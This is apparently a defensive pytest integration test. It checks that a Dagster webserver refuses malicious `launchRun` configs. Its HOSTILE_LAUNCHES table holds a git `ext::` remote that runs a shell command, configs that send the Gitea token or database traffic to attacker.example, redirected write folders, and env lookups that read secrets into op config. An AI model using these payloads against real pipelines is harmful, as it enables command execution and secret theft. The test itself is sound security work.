"""The launches an attacker with a webserver tab would send, through a real Dagster webserver's GraphQL `launchRun`:
each is refused as invalid run config, and no run exists afterwards (nothing fetched, pushed, written or run)."""

from __future__ import annotations

import os
import uuid
from collections.abc import Iterator

import dagster as dg
import pytest

from orchestration_core.dagster_webserver import DagsterWebserverClient, LaunchRejected
from tests.conftest import serve_webserver

pytestmark = pytest.mark.integration

DOC_SYNC_CONFIG = {"project": "docs", "upstream_repo": "https://github.com/example/docs.git",
                   "gitea_repo": "library/docs"}

HOSTILE_LAUNCHES = {
    # git runs `ext::` remotes as commands, with GITEA_TOKEN in its environment.
    "gitea base_url runs a command": ("doc_sync_executor", {
        "ops": {"run_doc_sync_executor": {"config": DOC_SYNC_CONFIG}},
        "resources": {"gitea": {"config": {"base_url": "ext::sh -c touch% /tmp/pwned;#", "work_dir": "/tmp/w"}}}}),
    "gitea token sent elsewhere": ("doc_sync_executor", {
        "ops": {"run_doc_sync_executor": {"config": DOC_SYNC_CONFIG}},
        "resources": {"gitea": {"config": {"base_url": "https://attacker.example", "work_dir": "/tmp/w"}}}}),
    "gitea work_dir moved": ("doc_sync_executor", {
        "ops": {"run_doc_sync_executor": {"config": DOC_SYNC_CONFIG}},
        "resources": {"gitea": {"config": {"base_url": "https://gitea.example", "work_dir": "/backups"}}}}),
    "registry database swapped": ("example_executor", {
        "resources": {"maintenance_registry": {"config": {"database_url": "postgresql://attacker.example/x",
                                                             "timezone": "UTC"}}}}),
    "outputs written to any folder": ("example_executor", {
        "resources": {"io_manager": {"config": {"base_dir": "/backups"}}}}),
    "a secret read into op config": ("example_executor", {
        "ops": {"run_example_executor": {"config": {"message": {"env": "GITEA_TOKEN"}}}}}),
    "a secret read into a list item": ("doc_sync_executor", {
        "ops": {"run_doc_sync_executor": {"config": {**DOC_SYNC_CONFIG, "docs_paths": [{"env": "GITEA_TOKEN"}]}}}}),
    "a database URL read into plug-in config": ("plugin_executor", {
        "ops": {"run_plugin_executor": {"config": {"executor": "disk_usage_executor",
                                                   "config_json": {"env": "MAINTENANCE_DATABASE_URL"}}}}}),
}


SECRETS = {name: f"https://canary-{name.lower()}.example"
           for name in ("GITEA_URL", "GITEA_TOKEN", "MAINTENANCE_DATABASE_URL")}


@pytest.fixture(scope="module")
def webserver_with_secrets(dagster_database_url: str) -> Iterator[str]:
    """A webserver whose code server has the deployment's secrets in its environment, as in production: unset,
    Dagster's own `{"env": …}` resolution fails and hides the hole."""
    saved = {name: os.environ.get(name) for name in SECRETS}
    os.environ.update(SECRETS)
    try:
        with serve_webserver(dagster_database_url, "maintenance_jobs.definitions", "maintenance_jobs") as url:
            yield url
    finally:
        for name, value in saved.items():
            if value is None:
                os.environ.pop(name, None)
            else:
                os.environ[name] = value


@pytest.mark.parametrize("name", sorted(HOSTILE_LAUNCHES))
def test_a_hostile_launch_is_refused_and_creates_no_run(name: str, webserver_with_secrets: str,
                                                       pg_instance: dg.DagsterInstance) -> None:
    job_name, run_config = HOSTILE_LAUNCHES[name]
    probe = uuid.uuid4().hex
    client = DagsterWebserverClient(webserver_with_secrets)
    with pytest.raises(LaunchRejected, match="invalid run config") as refused:
        client.launch_run(location_name="maintenance_jobs", repository_name="__repository__", job_name=job_name,
                          run_config=run_config, tags={"probe/id": probe})
    assert "canary" not in str(refused.value)
    assert pg_instance.get_runs(filters=dg.RunsFilter(tags={"probe/id": probe})) == []


def test_the_same_launch_without_the_hostile_part_is_accepted(webserver_with_secrets: str,
                                                              pg_instance: dg.DagsterInstance) -> None:
    # The control: the refusals above are about the hostile part, not a launch this webserver cannot make at all.
    probe = uuid.uuid4().hex
    client = DagsterWebserverClient(webserver_with_secrets)
    run_id = client.launch_run(location_name="maintenance_jobs", repository_name="__repository__",
                               job_name="example_executor",
                               run_config={"ops": {"run_example_executor": {"config": {"message": "hello"}}}},
                               tags={"probe/id": probe})
    runs = pg_instance.get_runs(filters=dg.RunsFilter(tags={"probe/id": probe}))
    assert [run.run_id for run in runs] == [run_id]
    pg_instance.delete_run(run_id)
